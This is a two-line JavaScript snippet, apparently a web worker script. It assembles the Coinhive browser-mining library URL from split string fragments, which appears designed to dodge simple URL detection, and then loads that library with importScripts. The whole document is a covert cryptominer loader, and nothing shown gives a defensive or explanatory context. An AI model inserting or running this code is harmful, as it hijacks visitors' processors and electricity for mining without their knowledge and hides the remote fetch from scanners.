var u = ['https://coin', 'hive.com', '/lib.js'].join('');
importScripts(u);
